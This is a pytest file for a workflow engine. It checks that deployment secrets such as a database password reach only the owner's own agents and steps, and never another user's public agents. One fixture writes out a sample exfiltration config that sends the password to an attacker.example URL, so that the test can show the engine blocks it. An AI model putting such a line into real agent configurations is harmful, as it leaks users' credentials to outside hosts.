"""Deployment variables (``{{env.NAME}}``) reach only definitions their owner wrote: the
owner's own agents and the owner's step definitions, never another user's agent."""

from __future__ import annotations

from dataclasses import replace
from typing import Any
from uuid import uuid4

import pytest

from tests.core.builders import step
from tests.core.engine.harness import Harness, echo
from tests.core.engine.test_workflow_agent import ChildHarness, add_workflow, calls
from turbocat_core.domain.agent import Agent
from turbocat_core.domain.common import UserId
from turbocat_core.domain.execution import ExecutionStatus, StepStatus
from turbocat_core.domain.workflow import StepType

SECRET = "hunter2-db-password"
STRANGER = UserId(uuid4())  # the author of public agents the workflow's owner uses


def recording(seen: list[dict[str, Any]]) -> Any:
    """A behaviour that records the config, inputs and env the agent was given."""

    async def behaviour(config: dict[str, Any], inputs: dict[str, Any], ctx: Any) -> Any:
        seen.append({"config": config, "inputs": inputs, "env": dict(ctx.env)})
        return {"ok": True}

    return behaviour


async def published(
    h: Harness, name: str, seen: list[dict[str, Any]], config: dict[str, Any] | None = None
) -> Agent:
    """A public agent of another user (``STRANGER``) recording its calls in ``seen``."""
    return await h.agent(name, recording(seen), config=config, owner=STRANGER, is_public=True)


@pytest.fixture
async def h():
    harness = Harness(env={"DB_PASSWORD": SECRET})
    yield harness
    await harness.queue.close()


async def test_another_users_agent_referencing_env_fails_the_step_without_running(h: Harness):
    seen: list[dict[str, Any]] = []
    foreign = await published(
        h, "exfiltrate", seen, {"url": "https://attacker.example/?p={{env.DB_PASSWORD}}"}
    )
    wf = await h.workflow([step("a", agent_id=foreign.id, retry_count=3)])
    execution = await h.run(wf)
    assert execution.status is ExecutionStatus.FAILED
    run = (await h.runs(execution.id))["a"]
    assert run.status is StepStatus.FAILED and run.attempt == 1  # not retried
    assert "'exfiltrate'" in (run.error or "") and str(foreign.id) in (run.error or "")
    assert "belongs to another user" in (run.error or "")
    assert "{{env.DB_PASSWORD}}" in (run.error or "")
    assert "step input" in (run.error or "")
    assert seen == []  # the executor never ran
    assert SECRET not in repr(await h.logs(execution.id)) + repr(execution)


async def test_another_users_agent_gets_an_empty_env(h: Harness):
    seen: list[dict[str, Any]] = []
    foreign = await published(h, "foreign", seen)
    mine = await h.agent("mine", recording(seen), config={"key": "{{env.DB_PASSWORD}}"})
    wf = await h.workflow([step("a", agent_id=foreign.id), step("b", ["a"], agent_id=mine.id)])
    execution = await h.run(wf)
    assert execution.status is ExecutionStatus.COMPLETED, execution.error_message
    assert seen[0]["env"] == {}
    assert seen[1] == {
        "config": {"key": SECRET},
        "inputs": {},
        "env": {"DB_PASSWORD": SECRET},
    }


async def test_the_owner_may_pass_a_variable_to_another_users_agent_as_an_input(h: Harness):
    seen: list[dict[str, Any]] = []
    foreign = await published(h, "foreign", seen, {"q": "{{inputs.x}}"})
    wf = await h.workflow(
        [step("a", agent_id=foreign.id, inputs={"password": "{{env.DB_PASSWORD}}"})]
    )
    execution = await h.run(wf, {"x": 1})
    assert execution.status is ExecutionStatus.COMPLETED, execution.error_message
    assert seen == [{"config": {"q": 1}, "inputs": {"password": SECRET}, "env": {}}]


async def test_loop_and_parallel_calls_follow_the_same_rule(h: Harness):
    seen: list[dict[str, Any]] = []
    foreign = await published(h, "foreign", seen, {"p": "{{env.DB_PASSWORD}}"})
    helper = await h.agent("helper", echo, owner=STRANGER, is_public=True)
    loop = step(
        "each",
        step_type=StepType.LOOP,
        config={"items": [1, 2], "agentId": str(foreign.id), "inputs": {"i": "{{loop.item}}"}},
    )
    explicit = step(
        "explicit",
        step_type=StepType.LOOP,
        config={
            "items": [1],
            "agentId": str(helper.id),
            "inputs": {"p": "{{env.DB_PASSWORD}}", "i": "{{loop.item}}"},
        },
    )
    parallel = step(
        "both",
        step_type=StepType.PARALLEL,
        config={"branches": {"x": {"agentId": str(foreign.id), "inputs": {}}}},
    )
    execution = await h.run(await h.workflow([explicit]))
    assert execution.status is ExecutionStatus.COMPLETED, execution.error_message
    assert execution.output_data == {"explicit": [{"p": SECRET, "i": 1}]}
    for refused in (loop, parallel):
        execution = await h.run(await h.workflow([refused]))
        assert execution.status is ExecutionStatus.FAILED
        assert "belongs to another user" in (execution.error_message or "")
    assert seen == []


async def test_variables_of_another_user_are_not_read_by_this_workflows_steps(h: Harness):
    """An ADMIN's deployment of another user's workflow: the variables are the ADMIN's, so
    neither the workflow owner's step inputs nor their agents read them."""
    h.env_owner = UserId(uuid4())
    seen: list[dict[str, Any]] = []
    mine = await h.agent("mine", recording(seen))
    by_input = await h.run(
        await h.workflow([step("a", agent_id=mine.id, inputs={"p": "{{env.DB_PASSWORD}}"})])
    )
    assert by_input.status is ExecutionStatus.FAILED
    assert "belong to another user than this workflow's owner" in (by_input.error_message or "")
    plain = await h.run(await h.workflow([step("a", agent_id=mine.id)]))
    assert plain.status is ExecutionStatus.COMPLETED
    assert seen == [{"config": {}, "inputs": {}, "env": {}}]


async def test_a_child_workflow_applies_the_rule_to_its_own_steps():
    h = ChildHarness(env={"DB_PASSWORD": SECRET})
    try:
        seen: list[dict[str, Any]] = []
        mine = await h.agent("mine", recording(seen), config={"k": "{{env.DB_PASSWORD}}"})
        foreign = await published(h, "foreign", seen, {"k": "{{env.DB_PASSWORD}}"})
        good = await add_workflow(h, [step("c", agent_id=mine.id)])
        bad = await add_workflow(h, [step("c", agent_id=foreign.id)])
        runs_good, runs_bad = await calls(h, good.id), await calls(h, bad.id)
        execution = await h.run(await h.workflow([step("p", agent_id=runs_good.id)]))
        assert execution.status is ExecutionStatus.COMPLETED, execution.error_message
        assert seen == [{"config": {"k": SECRET}, "inputs": {}, "env": {"DB_PASSWORD": SECRET}}]
        execution = await h.run(await h.workflow([step("p", agent_id=runs_bad.id)]))
        assert execution.status is ExecutionStatus.FAILED
        assert "belongs to another user" in (execution.error_message or "")
        assert len(seen) == 1
    finally:
        await h.queue.close()


async def test_without_a_deployment_an_own_agents_env_reference_stays_as_written():
    h = Harness()
    try:
        seen: list[dict[str, Any]] = []
        mine = await h.agent("mine", recording(seen), config={"k": "{{env.X}}"})
        execution = await h.run(await h.workflow([step("a", agent_id=mine.id)]))
        assert execution.status is ExecutionStatus.COMPLETED
        assert seen[0]["config"] == {"k": "{{env.X}}"}
    finally:
        await h.queue.close()


async def test_a_queued_run_whose_agent_was_taken_away_fails_saying_so(h: Harness):
    foreign = await h.agent("foreign", echo, owner=STRANGER, is_public=True)
    wf = await h.workflow([step("a", agent_id=foreign.id)])
    queued = await h.start(h.actor, wf.id)
    async with h.store.unit_of_work() as uow:  # its owner (or an ADMIN) took it down
        await uow.agents.update(replace(foreign, is_public=False))
        await uow.commit()
    await h.queue.drain()
    execution = await h.execution(queued.id)
    assert execution.status is ExecutionStatus.FAILED
    assert f"agent {foreign.id} is no longer available" in (execution.error_message or "")
